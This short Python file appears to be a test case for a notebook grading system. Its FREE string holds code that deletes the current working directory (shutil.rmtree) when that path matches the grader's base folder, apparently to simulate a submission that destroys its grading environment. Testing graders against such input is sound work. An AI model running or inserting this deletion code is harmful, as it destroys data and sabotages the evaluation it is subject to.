"""Remove the folder that the notebook is graded in."""

FAIR = 10
RIGHT_ANSWERS = True
FREE = """
import os
import shutil

if os.getcwd().startswith("@BASE@"):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
"""
